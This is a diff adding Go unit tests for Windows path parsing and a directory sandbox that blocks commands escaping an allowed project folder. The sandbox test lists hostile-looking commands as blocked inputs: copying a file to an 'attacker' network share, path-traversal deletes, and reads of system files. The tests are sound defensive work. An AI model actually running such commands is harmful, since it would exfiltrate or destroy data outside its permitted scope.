@@ -0,0 +1,147 @@
+package commands
+
+import "testing"
+
+func TestSplitWindowsVolume(t *testing.T) {
+	tests := []struct {
+		path, volume, rest string
+	}{
+		{`C:\Windows\win.ini`, "C:", `\Windows\win.ini`},
+		{`c:/Users/helix`, "C:", `\Users\helix`},
+		{`D:notes.txt`, "D:", "notes.txt"},
+		{`\\server\share\dir\file`, `\\server\share`, `\dir\file`},
+		{`//server/share/dir`, `\\server\share`, `\dir`},
+		{`\\server`, `\\server`, ""},
+		{`\\?\C:\Windows`, "C:", `\Windows`},
+		{`\\?\UNC\server\share\x`, `\\server\share`, `\x`},
+		{`\\.\PhysicalDrive0`, `\\.\PhysicalDrive0`, ""},
+		{`\Windows\Temp`, "", `\Windows\Temp`},
+		{`src/cmd\main.go`, "", `src\cmd\main.go`},
+		{`1:\x`, "", `1:\x`},
+	}
+	for _, tt := range tests {
+		volume, rest := splitWindowsVolume(tt.path)
+		if volume != tt.volume || rest != tt.rest {
+			t.Errorf("splitWindowsVolume(%q) = %q, %q; want %q, %q", tt.path, volume, rest, tt.volume, tt.rest)
+		}
+	}
+}
+
+func TestIsWindowsAbsolute(t *testing.T) {
+	tests := []struct {
+		path string
+		want bool
+	}{
+		{`C:\Windows`, true},
+		{`C:/Windows`, true},
+		{`D:notes.txt`, true},
+		{`\\server\share`, true},
+		{`\Windows`, true},
+		{`/Windows`, true},
+		{`src\main.go`, false},
+		{`..\secret.txt`, false},
+		{`.\dist`, false},
+	}
+	for _, tt := range tests {
+		if got := isWindowsAbsolute(tt.path); got != tt.want {
+			t.Errorf("isWindowsAbsolute(%q) = %v, want %v", tt.path, got, tt.want)
+		}
+	}
+}
+
+func TestResolveWindowsPath(t *testing.T) {
+	const base = `C:\Users\helix\project`
+	tests := []struct {
+		path, want string
+	}{
+		{`src\main.go`, `C:\Users\helix\project\src\main.go`},
+		{`src/cmd\main.go`, `C:\Users\helix\project\src\cmd\main.go`},
+		{`.\dist`, `C:\Users\helix\project\dist`},
+		{`..\sibling`, `C:\Users\helix\sibling`},
+		{`..\..\..\..\..\Windows`, `C:\Windows`},
+		{`src\..\..\secret.txt`, `C:\Users\helix\secret.txt`},
+		{`src\..\README.md`, `C:\Users\helix\project\README.md`},
+		{`\Windows\Temp`, `C:\Windows\Temp`},
+		{`c:\WINDOWS\.\win.ini`, `C:\WINDOWS\win.ini`},
+		{`C:build`, `C:\Users\helix\project\build`},
+		{`D:build`, `D:\build`},
+		{`\\server\share\a\..\b`, `\\server\share\b`},
+		{`\\server\share\..\..\x`, `\\server\share\x`},
+		{`\\?\C:\Users\helix\project\..\x`, `C:\Users\helix\x`},
+	}
+	for _, tt := range tests {
+		if got := resolveWindowsPath(tt.path, base); got != tt.want {
+			t.Errorf("resolveWindowsPath(%q) = %q, want %q", tt.path, got, tt.want)
+		}
+	}
+}
+
+func TestIsWithinWindows(t *testing.T) {
+	const dir = `C:\Users\helix\project`
+	tests := []struct {
+		path string
+		want bool
+	}{
+		{`C:\Users\helix\project`, true},
+		{`c:\users\HELIX\Project\src`, true},
+		{`C:\Users\helix\project-old`, false},
+		{`C:\Users\helix`, false},
+		{`D:\Users\helix\project`, false},
+	}
+	for _, tt := range tests {
+		if got := isWithinWindows(tt.path, dir); got != tt.want {
+			t.Errorf("isWithinWindows(%q) = %v, want %v", tt.path, got, tt.want)
+		}
+	}
+	if !isWithinWindows(`C:\Users\helix\project\src`, dir+`\`) {
+		t.Errorf("a trailing backslash on the directory changes the result")
+	}
+}
+
+func TestIsWindowsSwitch(t *testing.T) {
+	tests := []struct {
+		program, word string
+		want          bool
+	}{
+		{"del", "/q", true},
+		{"RD", "/S", true},
+		{`C:\Windows\System32\robocopy.exe`, "/mir", true},
+		{"dir", "/a:h", true},
+		{"del", "/Windows/Temp", false},
+		{"del", `/q\x`, false},
+		{"rm", "/q", false},
+	}
+	for _, tt := range tests {
+		if got := isWindowsSwitch(tt.program, tt.word); got != tt.want {
+			t.Errorf("isWindowsSwitch(%q, %q) = %v, want %v", tt.program, tt.word, got, tt.want)
+		}
+	}
+}
+
+func TestWindowsSandboxCheck(t *testing.T) {
+	ds := &DirectorySandbox{allowedDir: windowsEscapeDir, originalDir: windowsEscapeDir, mode: SandboxCurrentDir, windows: true}
+	tests := []struct {
+		command string
+		blocked bool
+	}{
+		{`type C:\Windows\win.ini`, true},
+		{`type c:/windows/win.ini`, true},
+		{`type \\?\C:\Windows\win.ini`, true},
+		{`copy notes.txt \\attacker\share\notes.txt`, true},
+		{`copy notes.txt D:notes.txt`, true},
+		{`del ..\..\secrets.txt`, true},
+		{`del src\..\..\secrets.txt`, true},
+		{`rd /s /q src/..\../sibling`, true},
+		{`type C:\Users\helix\project\src\..\..\other\x`, true},
+		{`type C:\Users\HELIX\Project\README.md`, false},
+		{`type src\..\README.md`, false},
+		{`dir /b /s src\cmd`, false},
+		{`del /s /q build`, false},
+	}
+	for _, tt := range tests {
+		violation := ds.Check(tt.command)
+		if (violation != nil) != tt.blocked {
+			t.Errorf("Check(%q) = %v, want blocked %v", tt.command, violation, tt.blocked)
+		}
+	}
+}